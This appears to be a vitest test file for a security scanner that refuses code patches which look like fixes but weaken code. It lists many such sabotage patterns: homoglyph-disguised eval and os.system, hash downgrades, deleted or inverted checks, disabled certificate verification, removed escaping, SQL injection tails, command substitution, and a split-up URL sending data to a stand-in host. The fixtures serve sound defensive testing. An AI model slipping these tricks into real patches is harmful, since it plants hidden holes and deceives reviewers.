// Security row 24: fixes that look like mends and weaken the code, or hide what they do from rules that read letters.

import { describe, expect, test } from 'vitest';
import { lostCheck } from '#patch/lost-checks.ts';
import { forbiddenContent } from '#patch/new-content.ts';
import type { FixCase } from '../patch/scanner-fix.ts';
import { patchOne } from '../patch/scanner-fix.ts';

const PYTHON =
  'import os\nimport hashlib\nimport hmac\n\ndef f(a, b):\n    if not allowed(a):\n        raise PermissionError\n    x = hashlib.sha256(a)\n    return hmac.compare_digest(x, b)\n';
const SCRIPT =
  "const db = require('./db');\nconst crypto = require('crypto');\nfunction f(id, user) {\n  if (!user.ok) return null;\n  if (user.age < 18) return null;\n  const h = crypto.createHash('sha256');\n  return db.find(id, h);\n}\nmodule.exports = { f };\n";
const JAVA =
  'import java.sql.Connection;\n\nclass A {\n  @Secured("ADMIN")\n  String f(String a) {\n    return a.trim();\n  }\n}\n';
const PHP = '<?php\nfunction f($a) {\n  return htmlspecialchars($a);\n}\n';
const RUBY = 'def f(a)\n  return nil unless ok?(a)\n  a.strip\nend\n';
const GO =
  'package a\n\nimport (\n\t"crypto/tls"\n\t"fmt"\n\t"html/template"\n)\n\nvar c = &tls.Config{}\n\nfunc f(a string) string {\n\treturn fmt.Sprint(template.HTMLEscapeString(a))\n}\n';
const C =
  '#include <string.h>\n\nint f(char *b, const char *a) {\n  if (strlen(a) > 8) return 1;\n  return strlen(a);\n}\n';
const SHARP = 'using System;\n\nclass A {\n  string F(string a) {\n    return a.Trim();\n  }\n}\n';
const YAML = 'service:\n  image: app\n  user: nobody\n';
const SHELL = '#!/bin/sh\nset -eu\necho "$1"\n';
const HTML = '<p>\n{{ name }}\n</p>\n';

type Row = readonly [name: string, path: string, text: string, from: string, to: string];

const REFUSED: readonly Row[] = [
  [
    'mathematical letters, which Python reads as plain ones',
    'a.py',
    PYTHON,
    '    x = ',
    '    𝓮𝓿𝓪𝓵(a)\n    x = ',
  ],
  ['one mathematical letter in a name', 'a.py', PYTHON, '    x = ', '    ev𝓪l(a)\n    x = '],
  ['an ordinal sign for a letter', 'a.py', PYTHON, '    x = ', '    evªl(a)\n    x = '],
  ['a long s for a letter', 'a.py', PYTHON, '    x = ', '    os.ſystem(a)\n    x = '],
  ['a weaker hash', 'a.py', PYTHON, 'sha256', 'md5'],
  ['a weaker hash in JavaScript', 'a.js', SCRIPT, "'sha256'", "'sha1'"],
  ['a comparison that leaks time', 'a.py', PYTHON, 'hmac.compare_digest(x, b)', 'x == b'],
  ['a condition turned round', 'a.js', SCRIPT, '!user.ok', 'user.ok'],
  ['a condition turned round in Python', 'a.py', PYTHON, 'if not allowed', 'if allowed'],
  ['a comparison turned round', 'a.js', SCRIPT, 'age < 18', 'age > 18'],
  ['a check deleted', 'a.py', PYTHON, '    if not allowed(a):\n        raise PermissionError\n', ''],
  ['a check deleted in JavaScript', 'a.js', SCRIPT, '  if (!user.ok) return null;\n', ''],
  ['a check deleted in Ruby', 'a.rb', RUBY, '  return nil unless ok?(a)\n', ''],
  ['a check deleted in C', 'a.c', C, '  if (strlen(a) > 8) return 1;\n', ''],
  ['a check commented out', 'a.js', SCRIPT, 'if (!user.ok)', '// if (!user.ok)'],
  ['a check that raises nothing', 'a.py', PYTHON, 'raise PermissionError', 'pass'],
  ['a condition that always holds', 'a.py', PYTHON, 'if not allowed(a):', 'if not (allowed(a) or 1):'],
  ['a condition that compares a thing to itself', 'a.js', SCRIPT, '!user.ok', 'user.ok !== user.ok'],
  ['a condition on two equal numbers', 'a.js', SCRIPT, '!user.ok', '1 === 2'],
  [
    'every error swallowed',
    'a.py',
    PYTHON,
    '    x = hashlib.sha256(a)\n',
    '    try:\n        x = hashlib.sha256(a)\n    except:\n        pass\n',
  ],
  [
    'every error swallowed in JavaScript',
    'a.js',
    SCRIPT,
    '  return db',
    '  try { id = id.trim(); } catch {}\n  return db',
  ],
  [
    'every error swallowed in Java',
    'A.java',
    JAVA,
    '    return',
    '    try { a = a.trim(); } catch (Throwable t) { }\n    return',
  ],
  [
    'certificates unchecked by assignment',
    'a.js',
    SCRIPT,
    '  return db',
    '  db.agent.options.rejectUnauthorized = false;\n  return db',
  ],
  [
    'certificates unchecked by another false',
    'a.js',
    SCRIPT,
    '  return db',
    '  db.open({ rejectUnauthorized: !1 });\n  return db',
  ],
  [
    'certificates unchecked by assignment in Go',
    'a.go',
    GO,
    '\treturn',
    '\tc.InsecureSkipVerify = true\n\treturn',
  ],
  ['certificates unchecked by a number', 'a.py', PYTHON, '    x = ', '    a.get(b, verify=0)\n    x = '],
  [
    'certificates unchecked by default',
    'a.py',
    PYTHON,
    '    x = ',
    '    a._create_default_https_context = b\n    x = ',
  ],
  [
    'a host name that is never checked',
    'A.java',
    JAVA,
    '    return',
    '    c.setHostnameVerifier((h, s) -> true);\n    return',
  ],
  ['a role that is no longer asked for', 'A.java', JAVA, '  @Secured("ADMIN")\n', ''],
  ['an escape taken away', 'a.php', PHP, 'htmlspecialchars($a)', '$a'],
  ['an escape taken away in Go', 'a.go', GO, 'template.HTMLEscapeString(a)', 'a'],
  ['text that a template takes for safe', 'a.go', GO, 'template.HTMLEscapeString(a)', 'template.HTML(a)'],
  ['a template made of text', 'a.py', PYTHON, '    x = ', '    a.render_template_string(b)\n    x = '],
  ['a template that does not escape', 'a.html', HTML, '{{ name }}', '{{ name|safe }}'],
  ['three braces', 'a.html', HTML, '{{ name }}', '{{{ name }}}'],
  ['a template of Ruby', 'a.rb', RUBY, '  a.strip', '  ERB.new(a).result\n  a.strip'],
  [
    'an optional call by a name put together',
    'a.js',
    SCRIPT,
    '  return db',
    "  db['ex' + 'ec']?.(id);\n  return db",
  ],
  ['a tag by a name put together', 'a.js', SCRIPT, '  return db', "  db['ex' + 'ec']`id`;\n  return db"],
  ['the prototype of all', 'a.js', SCRIPT, '  return db', '  id.__proto__.ok = true;\n  return db'],
  [
    'the prototype of all by a name put together',
    'a.js',
    SCRIPT,
    '  return db',
    "  id['__pro' + 'to__'].ok = true;\n  return db",
  ],
  [
    'an address in pieces',
    'a.js',
    SCRIPT,
    '  return db',
    "  db.to('https:' + '//collect' + '.example' + '/' + id);\n  return db",
  ],
  [
    'an address in pieces side by side',
    'a.py',
    PYTHON,
    '    x = ',
    "    a.to('htt' 'ps://collect' '.example/')\n    x = ",
  ],
  [
    'hidden text over several lines',
    'a.py',
    PYTHON,
    '    x = ',
    `    a.run('${'Q2hlY2s1'.repeat(4)}'\n          '${'Q2hlY2s2'.repeat(4)}')\n    x = `,
  ],
  ['a macro by another sign', 'a.c', C, '  if (', '%:define strlen(x) 0\n  if ('],
  ['a pragma in a function', 'a.c', C, '  if (', '  _Pragma("weak strlen")\n  if ('],
  ['a copy without a bound', 'a.c', C, '  if (', '  strcpy(b, a);\n  if ('],
  ['a build tag', 'a.go', GO, 'package a\n', '//go:build never\n\npackage a\n'],
  ['an old build tag', 'a.go', GO, 'package a\n', '// +build never\n\npackage a\n'],
  [
    'a comment inside of a query',
    'a.js',
    SCRIPT,
    '  return db',
    "  db.run('SELECT a FROM t WHERE u = ? -- AND p = ?', id);\n  return db",
  ],
  [
    'a condition of a query that always holds',
    'a.js',
    SCRIPT,
    '  return db',
    "  db.run('SELECT a FROM t WHERE u = ? OR 1=1', id);\n  return db",
  ],
  ['a function by its name in PHP', 'a.php', PHP, '  return', "  array_filter([$a], 'system');\n  return"],
  ['an include by a short tag', 'a.html', HTML, '{{ name }}', '<?= $name ?>'],
  ['a page code by percent signs', 'a.html', HTML, '{{ name }}', '<%= name %>'],
  ['parameters of a model let through', 'a.rb', RUBY, '  a.strip', '  a.params.permit!\n  a.strip'],
  ['a command behind a file in Ruby', 'a.rb', RUBY, '  a.strip', '  IO.readlines("|id")\n  a.strip'],
  ['an anchor in YAML', 'conf/a.yaml', YAML, '  user: nobody', '  user: &u nobody\n  root: *u'],
  ['a type in YAML', 'conf/a.yaml', YAML, '  user: nobody', '  user: !!python/object:a.B {}'],
  ['a here document', 'run.sh', SHELL, 'echo "$1"', 'cat > /tmp/x <<EOF\na\nEOF'],
  ['a command in a command', 'run.sh', SHELL, 'echo "$1"', 'echo "$(id)"'],
  ['a command in backticks', 'run.sh', SHELL, 'echo "$1"', 'echo "`id`"'],
  ['errors let through in a shell', 'run.sh', SHELL, 'set -eu\n', 'set -eu +e\n'],
  [
    'an input that is not looked at in C#',
    'A.cs',
    SHARP,
    '  string F',
    '  [ValidateInput(false)]\n  string F',
  ],
  ['all origins', 'a.js', SCRIPT, '  return db', "  db.cors({ origin: '*' });\n  return db"],
  ['a cipher that shows patterns', 'a.js', SCRIPT, '  return db', "  db.cipher('aes-128-ecb');\n  return db"],
  [
    'a line end that only some readers know',
    'a.js',
    SCRIPT,
    '  return db',
    '  // note\u2028db.drop();\n  return db',
  ],
  ['a next line control', 'a.py', PYTHON, '    x = ', '    # note\u0085a.drop()\n    x = '],
  ['a form feed', 'a.py', PYTHON, '    x = ', '    # note\fa.drop()\n    x = '],
];

describe('a fix that only looks like a mend is refused', () => {
  test.each(REFUSED)('%s', async (_name, path, text, from, to) => {
    const one: FixCase = { path, text, swaps: [[from, to]], cwe: [20] };
    const { patch, refusedPatches } = await patchOne(one);
    expect(patch?.edits ?? null, JSON.stringify(patch?.edits)).toBeNull();
    expect(refusedPatches.map(({ failed }) => failed)).not.toContain('applies');
  });
});

describe('what an honest mend does is none of that', () => {
  test.each([
    ['escape(a)\n', 'html.escape(a)\n'],
    ['if (a == b) return;\n', 'if (a === b) return;\n'],
    ['if (i <= n) f();\n', 'if (i < n) f();\n'],
    ['assert a > 0\n', 'if a <= 0:\n    raise ValueError\n'],
    ['// if this is old, throw it away\nf();\n', 'f();\n'],
    ['x = a || 10;\n', 'y = a || 10;\n'],
  ])('%j → %j', (removed, added) => expect(lostCheck(removed, added)).toBeNull());
});

test('a patch as large as may be is judged at once, whatever it is made of', () => {
  const pieces = [
    "'",
    '" ',
    '! ',
    'if ',
    '// ',
    '/*',
    '<',
    '< ',
    'a.',
    'or 1',
    "'' + ",
    'except ',
    'rescue\n',
    'select ',
    '|| ! ',
    '{ ',
    'verify ',
    '&&!!!',
    '9 = ',
  ];
  for (const piece of pieces) {
    const text = piece.repeat(20_000 / piece.length);
    const start = performance.now();
    forbiddenContent({ removed: '', added: text, file: '', language: null });
    forbiddenContent({ removed: text, added: text, file: text, language: null });
    expect(performance.now() - start, piece).toBeLessThan(1500);
  }
});
